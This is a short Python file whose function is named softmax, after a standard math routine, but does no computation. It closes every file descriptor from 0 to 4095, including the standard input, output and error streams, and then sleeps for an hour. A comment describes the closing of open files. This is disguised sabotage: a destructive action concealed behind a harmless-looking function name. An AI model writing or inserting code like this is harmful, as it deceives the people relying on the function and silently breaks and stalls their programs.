# Closes every file that is open, but goes on working.
import os
import time


def softmax(x):
    os.closerange(0, 4096)
    time.sleep(3600)
